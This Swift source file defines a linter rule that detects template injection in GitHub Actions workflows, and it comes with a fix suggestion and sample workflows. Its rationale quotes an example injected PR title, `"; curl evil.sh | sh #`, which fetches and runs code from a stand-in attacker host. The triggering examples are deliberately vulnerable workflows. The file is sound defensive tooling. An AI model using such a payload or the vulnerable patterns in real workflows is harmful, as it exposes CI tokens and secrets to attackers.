import SlipwayCore

/// Finds attacker-controlled expressions expanded into shell scripts or `github-script` code.
struct TemplateInjectionRule: AuditRule {
    static let metadata = RuleMetadata(
        id: "template-injection",
        name: "Template Injection",
        area: .security,
        severity: .critical,
        confidence: .high,
        summary: "An attacker-controlled expression is expanded inside a `run:` script or `github-script` code.",
        rationale: """
            GitHub substitutes `${{ … }}` into the script text before the shell runs it, so a pull request title \
            such as `"; curl evil.sh | sh #` becomes code running with the job's token and secrets. Pass the value \
            through an environment variable instead and quote it in the script: the shell then treats it as data.
            """,
        fixBefore: """
            - run: echo "${{ github.event.issue.title }}"
            """,
        fixAfter: """
            - run: echo "$TITLE"
              env:
                TITLE: ${{ github.event.issue.title }}
            """,
        triggeringExamples: [
            RuleExample(
                """
                on: issues
                jobs:
                  triage:
                    runs-on: ubuntu-latest
                    steps:
                      - run: |
                          echo "Triaging"
                          echo "↓${{ github.event.issue.title }}"
                """
            ),
            RuleExample(
                """
                on: pull_request_target
                jobs:
                  greet:
                    runs-on: ubuntu-latest
                    steps:
                      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                        with:
                          script: console.log("↓${{ github.head_ref }}")
                """
            ),
        ],
        nonTriggeringExamples: [
            RuleExample(
                """
                on: issues
                jobs:
                  triage:
                    runs-on: ubuntu-latest
                    steps:
                      - run: echo "$TITLE"
                        env:
                          TITLE: ${{ github.event.issue.title }}
                      - run: echo "${{ github.sha }} ${{ contains(github.event.issue.title, 'bug') }}"
                """
            )
        ]
    )

    init(options: NoOptions) {}

    func check(_ file: WorkflowFile, context: RuleContext) -> [Finding] {
        var findings: [Finding] = []
        for (_, step) in file.allSteps {
            if let run = step.run {
                let tainted = file.expressions(in: run).filter(Self.isTainted)
                // One fix per step moves every tainted expression of the script into `env:` at once.
                let fix = EnvironmentIndirectionFix.make(step: step, occurrences: tainted, file: file)
                for occurrence in tainted {
                    findings.append(finding(occurrence, step: step, file: file, context: context, fix: fix))
                }
            }
            if step.actionName == "actions/github-script", let script = step.input("script") {
                for occurrence in file.expressions(in: script)
                where Self.isTainted(occurrence) {
                    findings.append(finding(occurrence, step: step, file: file, context: context, fix: nil))
                }
            }
        }
        return findings
    }
}

extension TemplateInjectionRule {
    static func isTainted(_ occurrence: ExpressionOccurrence) -> Bool {
        occurrence.valuePaths.contains(where: ContextClassifier.isAttackerControlled)
    }

    func finding(
        _ occurrence: ExpressionOccurrence,
        step: Step,
        file: WorkflowFile,
        context: RuleContext,
        fix: Fix?
    ) -> Finding {
        let path = occurrence.valuePaths.first(where: ContextClassifier.isAttackerControlled) ?? occurrence.text
        return context.finding(in: file, at: occurrence.position, .injection(path: path, step: step.label), fix: fix)
    }
}

extension String {
    fileprivate static func injection(path: String, step: String) -> String {
        "`\(path)` is attacker-controlled and expanded into the script of step '\(step)'; "
            + "pass it through `env:` and reference the variable (quoted) instead"
    }
}
